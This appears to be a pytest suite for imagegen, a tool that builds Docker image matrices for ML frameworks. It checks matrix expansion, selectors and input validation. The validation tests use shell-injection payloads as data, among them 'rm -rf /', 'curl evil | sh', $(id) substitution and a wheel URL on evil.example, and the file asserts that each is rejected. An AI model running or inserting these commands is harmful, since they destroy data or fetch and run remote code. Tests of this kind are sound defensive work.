"""Matrix expansion, selectors and every bad input, each asserting its message."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from imagegen import matrix, units
from imagegen.errors import UserInputError

ROOT = Path(__file__).resolve().parents[2]

MINIMAL = """
default: paddle:2.6.2
frameworks:
  paddle:
    "2.6.2":
      devices: [cpu, gpu]
      cuda: ["11.8"]
    "3.3.1":
      devices: [cpu]
"""


def write(tmp_path: Path, text: str) -> Path:
    p = tmp_path / "matrix.yaml"
    p.write_text(textwrap.dedent(text))
    return p


def load_text(tmp_path: Path, text: str) -> matrix.Matrix:
    return matrix.load(write(tmp_path, text))


def error_of(tmp_path: Path, text: str) -> str:
    with pytest.raises(UserInputError) as exc:
        load_text(tmp_path, text)
    assert exc.value.exit_code == 2
    msg = str(exc.value)
    assert "\n" not in msg
    return msg


# --- expansion ----------------------------------------------------------------------------------

def test_default_matrix_cells():
    m = matrix.load(ROOT / "matrix.yaml")
    refs = {c.ref for c in m.active}
    assert {
        "paddle:2.6.2-cpu-slim", "paddle:2.6.2-cpu-full",
        "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim", "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-full",
        "paddle:3.3.1-cpu-slim", "paddle:3.3.1-cpu-full",
        "paddle:3.3.1-gpu-cuda11.8-cudnn8.9-slim", "paddle:3.3.1-gpu-cuda12.6-cudnn9.5-slim",
        "onnxruntime:1.23.2-cpu-slim", "pytorch:2.13.0-cpu-slim",
        # trixie / Python 3.13 (issue 13): the second Python of a version gets -py3.13
        "paddle:3.3.1-cpu-py3.13-slim", "onnxruntime:1.23.2-cpu-py3.13-slim",
        "onnxruntime:1.23.2-gpu-cuda12.8-cudnn9.10-slim", "onnxruntime:1.23.2-gpu-cuda12.8-cudnn9.10-trt10.13-slim",
        "pytorch:2.14.1-gpu-cuda13.0-cudnn9.24-slim",
        "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-sm75-slim",
    } == refs
    excluded = {c.ref: c.excluded for c in m.excluded}
    assert {"paddle:3.3.1-gpu-cuda11.8-cudnn8.9-full", "paddle:3.3.1-gpu-cuda12.6-cudnn9.5-full"} < set(excluded)
    assert "official images" in excluded["paddle:3.3.1-gpu-cuda11.8-cudnn8.9-full"]
    assert all(c.python == "3.11" for c in m.active if c.device == "gpu")
    by_ref = {c.ref: c for c in m.active}
    assert by_ref["paddle:3.3.1-cpu-py3.13-slim"].base == "trixie"
    assert by_ref["paddle:3.3.1-cpu-slim"].base == "bookworm"
    assert by_ref["onnxruntime:1.23.2-cpu-py3.13-slim"].selector == "cpu-py3.13-slim"


def test_onnxruntime_gpu_gets_only_the_cuda_components_it_loads():
    m = matrix.load(ROOT / "matrix.yaml")
    (cell,) = m.select(["onnxruntime:gpu-cuda12.8-slim"])
    assert cell.cudnn == "9.10.2" and cell.tensorrt is None
    assert set(cell.requirements) >= {
        "onnxruntime-gpu==1.23.2", "nvidia-cuda-runtime-cu12==12.8.90", "nvidia-cublas-cu12==12.8.4.1",
        "nvidia-cudnn-cu12==9.10.2.21", "nvidia-cufft-cu12==11.3.3.83", "nvidia-curand-cu12==10.3.9.90",
        "nvidia-cuda-nvrtc-cu12==12.8.93"}
    assert not any(r.startswith(("nvidia-nccl", "nvidia-cusolver", "nvidia-cusparse", "nvidia-cuda-cupti", "tensorrt"))
                   for r in cell.requirements)
    assert cell.indexes == ()


def test_torch_gpu_cell_pins_nothing_itself():
    m = matrix.load(ROOT / "matrix.yaml")
    (cell,) = m.select(["pytorch:gpu-cuda13.0-slim"])
    assert cell.requirements == ("torch==2.14.1",)  # the wheel pins its own nvidia wheels (CUDA 13.0)
    assert cell.cudnn == "9.24.0" and cell.cuda == "13.0"


def test_tensorrt_cell_tag_wheels_and_index():
    m = matrix.load(ROOT / "matrix.yaml")
    (cell,) = m.select(["onnxruntime:gpu-cuda12.8-trt10.13-slim"])
    assert cell.ref == "onnxruntime:1.23.2-gpu-cuda12.8-cudnn9.10-trt10.13-slim"
    assert cell.tensorrt == "10.13.3.9"
    assert "tensorrt-cu12-libs==10.13.3.9" in cell.requirements
    assert [i.name for i in cell.indexes] == ["nvidia"]
    assert cell.as_dict()["tensorrt"] == "10.13.3.9"


def test_unknown_tensorrt_major(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          onnxruntime:
            "1.23.2":
              python: ["3.11"]
              devices: [gpu]
              cuda: [{version: "12.8", tensorrt: "8"}]
    """)
    assert "onnxruntime 1.23.2 with CUDA 12.8 has no TensorRT 8 runtime in imagegen's data (TensorRT majors: 10)" in msg


def test_two_pythons_on_two_bases_from_one_version_entry(tmp_path):
    m = load_text(tmp_path, """
        frameworks:
          onnxruntime:
            "1.23.2": {flavors: [slim], python: ["3.11", "3.13"]}
    """)
    assert [(c.ref, c.base) for c in m.active] == [
        ("onnxruntime:1.23.2-cpu-slim", "bookworm"), ("onnxruntime:1.23.2-cpu-py3.13-slim", "trixie")]


def test_include_of_a_second_python_is_not_a_duplicate(tmp_path):
    # issue 9 item 7: this used to be "duplicate cells"
    m = load_text(tmp_path, """
        frameworks:
          paddle:
            "3.3.1": {flavors: [slim]}
        include:
          - {framework: paddle, version: 3.3.1, device: cpu, python: "3.13", flavor: slim, base: trixie}
    """)
    assert [(c.ref, c.base, c.python) for c in m.active] == [
        ("paddle:3.3.1-cpu-slim", "bookworm", "3.11"), ("paddle:3.3.1-cpu-py3.13-slim", "trixie", "3.13")]
    assert m.select(["paddle:cpu-py3.13-slim"])[0].tag == "3.3.1-cpu-py3.13-slim"


def test_base_mapping_per_python(tmp_path):
    m = load_text(tmp_path, """
        defaults: {python: ["3.13"], base: {"3.11": bookworm, "3.13": trixie}}
        frameworks:
          onnxruntime:
            "1.23.2": {flavors: [slim]}
          paddle:
            "2.6.2": {flavors: [slim], python: ["3.11"]}
    """)
    assert [(c.ref, c.base) for c in m.active] == [
        ("onnxruntime:1.23.2-cpu-slim", "trixie"), ("paddle:2.6.2-cpu-slim", "bookworm")]


def test_base_mapping_without_the_python(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          onnxruntime:
            "1.23.2": {flavors: [slim], python: ["3.11", "3.12"], base: {"3.11": bookworm}}
    """)
    assert "base: names no base for Python 3.12 (it maps 3.11)" in msg


def test_explicit_base_is_not_moved(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          onnxruntime:
            "1.23.2": {flavors: [slim], python: ["3.11", "3.13"], base: bookworm}
    """)
    assert "base 'bookworm' provides Python 3.11, not 3.13; base trixie provides it" in msg


def test_several_bases_for_one_python_is_ambiguous(tmp_path):
    msg = error_of(tmp_path, """
        bases:
          trixie-corp:
            source: registry
            libc: glibc
            python: "3.13"
            roles:
              runtime: {ref: "example/py:3.13@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
              builder: {ref: "example/py:3.13@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
              dev: {ref: "example/py:3.13@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
        frameworks:
          onnxruntime:
            "1.23.2": {flavors: [slim], python: ["3.11", "3.13"]}
    """)
    assert "several bases provide Python 3.13 (trixie, trixie-corp)" in msg


def test_gpu_cell_gets_cuda_runtime_wheels_from_data():
    m = matrix.load(ROOT / "matrix.yaml")
    (cell,) = m.select(["gpu-cuda11.8-slim"])
    assert cell.ref == "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"
    assert cell.cudnn == "8.6.0" and cell.cudnn_short == "8.6"
    reqs = set(cell.requirements)
    assert "paddlepaddle-gpu==2.6.2" in reqs
    assert "nvidia-cudnn-cu11==8.6.0.163" in reqs
    assert "nvidia-cublas-cu11==11.11.3.6" in reqs
    assert "nvidia-cuda-runtime-cu11==11.8.89" in reqs
    assert len([r for r in reqs if r.startswith("nvidia-")]) == 10
    assert cell.indexes == ()  # PyPI


def test_paddle3_gpu_comes_from_paddles_index_without_extra_wheels():
    m = matrix.load(ROOT / "matrix.yaml")
    (cell,) = m.select(["paddle:3.3.1-gpu-cuda12.6-slim"])
    assert cell.requirements == ("paddlepaddle-gpu==3.3.1", "setuptools")
    assert cell.indexes[0].name == "paddle-cu126"
    assert cell.cudnn == "9.5.1"


def test_budgets_overrides_later_rules_win():
    m = matrix.load(ROOT / "matrix.yaml")
    assert m.select(["paddle:3.3.1-cpu-slim"])[0].budget_size == 810_000_000  # 800 MB + build-time bytecode
    assert m.select(["paddle:3.3.1-cpu-slim"])[0].budget_compressed == 300_000_000
    assert m.select(["onnxruntime:cpu-slim"])[0].budget_size == 200_000_000  # measured 173 MB; naive 626 MB
    gpu = m.select(["gpu-cuda11.8-slim"])[0]
    assert gpu.budget_size == 4_500_000_000
    assert gpu.slimming.cudnn_train and gpu.slimming.flashattn
    assert not m.select(["gpu-cuda11.8-full"])[0].slimming.cudnn_train


def test_flavor_defaults_differ():
    m = matrix.load(ROOT / "matrix.yaml")
    slim, full = m.select(["cpu-slim"])[0], m.select(["cpu-full"])[0]
    assert slim.slimming.headers and slim.slimming.pip
    assert not full.slimming.headers and not full.slimming.pip
    assert slim.runtime_role == "runtime" and full.runtime_role == "dev"


def test_multiple_pythons_get_a_python_tag_component(tmp_path):
    m = load_text(tmp_path, """
        bases:
          bookworm312:
            source: registry
            libc: glibc
            python: "3.12"
            roles:
              runtime: {ref: "example/py:3.12@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
              builder: {ref: "example/py:3.12@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
              dev: {ref: "example/py:3.12@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
        frameworks:
          onnxruntime:
            "1.23.2": {flavors: [slim], python: ["3.11"]}
    """)
    assert [c.ref for c in m.active] == ["onnxruntime:1.23.2-cpu-slim"]


def test_remote_ref_uses_registry_and_namespace(tmp_path):
    m = load_text(tmp_path, "registry: registry.example.com:5000\nnamespace: ml/images\n" + MINIMAL)
    assert m.active[0].remote_ref == "registry.example.com:5000/ml/images/paddle:2.6.2-cpu-slim"


# --- selectors ----------------------------------------------------------------------------------

def test_selectors(tmp_path):
    m = load_text(tmp_path, MINIMAL + "    \"3.3.1\":\n" if False else MINIMAL)
    assert [c.ref for c in m.select(["cpu-slim"])] == ["paddle:2.6.2-cpu-slim"]  # default scope
    assert [c.ref for c in m.select(["gpu-cuda11.8-slim"])] == ["paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"]
    assert [c.ref for c in m.select(["paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"])] == [
        "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"]
    assert [c.ref for c in m.select(["3.3.1-cpu-full"])] == ["paddle:3.3.1-cpu-full"]
    assert len(m.select(["paddle:*-slim"])) == 3


def test_ambiguous_selector_lists_candidates(tmp_path):
    m = load_text(tmp_path, MINIMAL)
    with pytest.raises(UserInputError) as exc:
        m.select(["paddle:cpu-slim"])
    assert "ambiguous" in str(exc.value)
    assert "paddle:2.6.2-cpu-slim" in str(exc.value) and "paddle:3.3.1-cpu-slim" in str(exc.value)


def test_unknown_selector_suggests(tmp_path):
    m = load_text(tmp_path, MINIMAL)
    with pytest.raises(UserInputError, match="did you mean cpu-slim"):
        m.select(["cpu-slimm"])
    with pytest.raises(UserInputError, match="matches no cell"):
        m.select(["tensorflow:*"])


def test_excluded_selector_says_why(tmp_path):
    m = load_text(tmp_path, MINIMAL + "exclude:\n  - {match: 'paddle:3.3.1-cpu-full', reason: not needed}\n")
    with pytest.raises(UserInputError, match="excluded from the matrix: not needed"):
        m.select(["3.3.1-cpu-full"])


# --- bad input ----------------------------------------------------------------------------------

def test_malformed_yaml_points_at_line(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\": {devices: [cpu\n")
    assert "malformed YAML" in msg and "matrix.yaml:" in msg


def test_unknown_key_did_you_mean(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          paddle:
            "2.6.2":
              devics: [cpu]
    """)
    assert "matrix.yaml:5:" in msg
    assert "unknown key 'devics'" in msg and "did you mean 'devices'" in msg


def test_unknown_top_level_key(tmp_path):
    msg = error_of(tmp_path, "framework:\n  paddle: {}\n")
    assert "unknown key 'framework'" in msg and "did you mean 'frameworks'" in msg and "matrix.yaml:1:" in msg


def test_unknown_slimming_rule(tmp_path):
    msg = error_of(tmp_path, MINIMAL + "defaults:\n  slimming: {strp: true}\n")
    assert "unknown key 'strp'" in msg and "did you mean 'strip'" in msg


def test_invalid_version(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.x\": {devices: [cpu]}\n")
    assert "matrix.yaml:3:" in msg and "'2.6.x' is not a valid version" in msg


def test_unknown_framework(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  padle:\n    \"2.6.2\": {}\n")
    assert "unknown framework 'padle'" in msg and "did you mean 'paddle'" in msg


def test_impossible_cuda(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          paddle:
            "2.6.2":
              devices: [gpu]
              cuda: ["12.6"]
    """)
    assert "paddle 2.6.2 has no CUDA 12.6 build; it supports 11.2, 11.6, 11.7, 11.8, 12.0" in msg
    assert "matrix.yaml:6:" in msg


def test_wrong_cudnn(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          paddle:
            "2.6.2":
              devices: [gpu]
              cuda: [{version: "11.8", cudnn: "8.9"}]
    """)
    assert "built with cuDNN 8.6.0, not 8.9" in msg


def test_unsupported_python(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          paddle:
            "2.6.2":
              python: ["3.13"]
    """)
    assert "paddle 2.6.2 supports Python 3.8, 3.9, 3.10, 3.11, 3.12, not 3.13" in msg


def test_python_float_is_not_mangled(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\":\n      python: [3.10]\n")
    assert "base 'bookworm' provides Python 3.11, not 3.10" in msg


def test_musl_base_rejected_with_reason(tmp_path):
    msg = error_of(tmp_path, """
        frameworks:
          paddle:
            "2.6.2":
              base: alpine3.20
              python: ["3.12"]
    """)
    assert "publishes only manylinux (glibc) wheels, which do not run on musl" in msg


def test_gpu_on_cpu_only_framework(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  torch:\n    \"2.13.0\": {devices: [gpu], cuda: ['11.8'], python: ['3.11']}\n")
    assert "torch 2.13.0 has no GPU build" in msg


def test_unknown_framework_version(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.7.0\": {}\n")
    assert "paddle 2.7.0 is not in imagegen's compatibility data (known versions: 2.6.2, 3.3.1)" in msg


def test_duplicate_yaml_key(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\": {}\n    \"2.6.2\": {}\n")
    assert "matrix.yaml:4: duplicate key '2.6.2' (first defined at line 3)" in msg


def test_duplicate_cells_by_equal_versions(tmp_path):
    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\": {}\n    \"2.6.2.0\": {}\n")
    assert "duplicate cells" in msg


def test_duplicate_cells_by_include(tmp_path):
    msg = error_of(tmp_path, MINIMAL + "include:\n  - {framework: paddle, version: 2.6.2, device: cpu, flavor: slim}\n")
    assert "duplicate cells: paddle:2.6.2-cpu-slim is already defined at" in msg


def test_invalid_docker_names(tmp_path):
    msg = error_of(tmp_path, "namespace: My_Team\n" + MINIMAL)
    assert "'My_Team' is not a valid image namespace" in msg
    msg = error_of(tmp_path, "registry: 'reg istry'\n" + MINIMAL)
    assert "not a valid registry" in msg


@pytest.mark.parametrize("req", [
    "numpy; rm -rf /",
    "numpy==1.0 && curl evil | sh",
    "numpy`id`",
    "numpy $(id)",
    "pkg @ https://evil.example/x.whl",
])
def test_shell_injection_in_requirements_rejected(tmp_path, req):
    text = MINIMAL.replace('devices: [cpu]\n', 'devices: [cpu]\n      extra_requirements: [' + json.dumps(req) + ']\n', 1)
    # MINIMAL's 3.3.1 entry is the last "devices: [cpu]"
    text = MINIMAL + f'overrides:\n  - match: "*"\n    extra_requirements: [{json.dumps(req)}]\n'
    msg = error_of(tmp_path, text)
    assert "requirement" in msg or "not allowed" in msg


@pytest.mark.parametrize("url", ["https://x.example/simple; rm -rf /", "ftp://x.example", "https://x/$(id)", "javascript:alert(1)"])
def test_shell_injection_in_index_rejected(tmp_path, url):
    msg = error_of(tmp_path, MINIMAL + f"indexes:\n  mirror: {{url: {json.dumps(url)}}}\n")
    assert "url" in msg.lower()


def test_debian_package_names_validated(tmp_path):
    msg = error_of(tmp_path, MINIMAL + """
bases:
  mine:
    source: bootstrap
    libc: glibc
    python: "3.11"
    suite: bookworm
    roles:
      runtime: {variant: extract, packages: ["libc6; touch /x"]}
      builder: {variant: minbase, packages: []}
      dev: {variant: minbase, packages: []}
""")
    assert "is not a Debian package name" in msg


def test_registry_base_must_be_pinned(tmp_path):
    msg = error_of(tmp_path, MINIMAL + """
bases:
  slim:
    source: registry
    libc: glibc
    python: "3.11"
    roles:
      runtime: {ref: "debian:bookworm-slim"}
      builder: {ref: "debian:bookworm-slim"}
      dev: {ref: "debian:bookworm-slim"}
""")
    assert "must be pinned by digest" in msg


def test_exclude_that_matches_nothing(tmp_path):
    msg = error_of(tmp_path, MINIMAL + "exclude:\n  - {match: 'paddle:9.9*'}\n")
    assert "matches no cell" in msg


def test_bad_size(tmp_path):
    msg = error_of(tmp_path, MINIMAL + "budgets:\n  - {match: '*', size: lots}\n")
    assert "'lots' is not a size" in msg


def test_empty_and_non_mapping(tmp_path):
    assert "must be a mapping" in error_of(tmp_path, "- a\n- b\n")
    assert "frameworks" in error_of(tmp_path, "")


def test_json_schema_lists_keys():
    schema = matrix.json_schema()
    assert schema["title"] == "imagegen matrix.yaml"
    assert "frameworks" in schema["properties"]
    assert schema["properties"]["frameworks"]["propertyNames"]["enum"] == ["onnxruntime", "paddle", "torch"]


def test_committed_schema_is_current():
    committed = json.loads((ROOT / "matrix.schema.json").read_text())
    assert committed == json.loads(json.dumps(matrix.json_schema())), "run `imagegen schema -o matrix.schema.json`"


@pytest.mark.parametrize("text,expected", [("800MB", 800_000_000), ("4.5GB", 4_500_000_000), ("2GiB", 2 * 2**30),
                                           (1234, 1234), ("10 kb", 10_000)])
def test_parse_size(text, expected):
    assert units.parse_size(text) == expected


def test_gpu_archs_cell_gets_an_arch_tag_and_drives_the_kernel_prune():
    """issue 12: an include with gpu_archs is its own cell (-sm75 in tag and selector), with the
    fatprune step and its files in the build; the unrestricted flagship renders as before."""
    from imagegen import recipe, render

    m = matrix.load(ROOT / "matrix.yaml")
    (cell,) = m.select(["gpu-cuda11.8-sm75-slim"])
    assert cell.ref == "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-sm75-slim" and cell.gpu_archs == ("sm_75",)
    assert cell.as_dict()["gpu_archs"] == ["sm_75"] and cell.slimming.ptx == "drop"
    assert cell.budget_size == 1_800_000_000
    files = render.render_cell(m, cell).files
    assert "fatprune.py --config /opt/imagegen-build/prune.json" in files["Dockerfile"]
    assert json.loads(files["imagegen/prune.json"])["cuda_archs"] == {"targets": ["sm_75"], "ptx": "drop"}
    assert {"imagegen/fatbin.py", "imagegen/fatprune.py"} <= set(recipe.of(cell).context_files)
    (flagship,) = m.select(["gpu-cuda11.8-slim"])
    assert "fatprune" not in render.render_cell(m, flagship).files["Dockerfile"]
    assert "imagegen/fatprune.py" not in recipe.of(flagship).context_files


def test_gpu_archs_ptx_keep_and_tag_for_two_targets(tmp_path):
    p = tmp_path / "matrix.yaml"
    p.write_text("""
defaults: {base: bookworm, python: ["3.11"], devices: [cpu], flavors: [slim]}
frameworks:
  paddle:
    "2.6.2": {devices: [gpu], cuda: ["11.8"]}
include:
  - {framework: paddle, version: 2.6.2, device: gpu, cuda: "11.8", flavor: slim, gpu_archs: [sm_86, "7.5"]}
overrides:
  - match: "paddle:*-sm75-sm86-slim"
    slimming: {ptx: keep}
""")
    plain, cell = matrix.load(p).active
    assert plain.tag == "2.6.2-gpu-cuda11.8-cudnn8.6-slim" and plain.gpu_archs == ()
    assert cell.tag == "2.6.2-gpu-cuda11.8-cudnn8.6-sm75-sm86-slim" and cell.gpu_archs == ("sm_75", "sm_86")
    from imagegen import recipe

    assert recipe.of(cell).prune_json()["cuda_archs"] == {"targets": ["sm_75", "sm_86"], "ptx": "keep"}
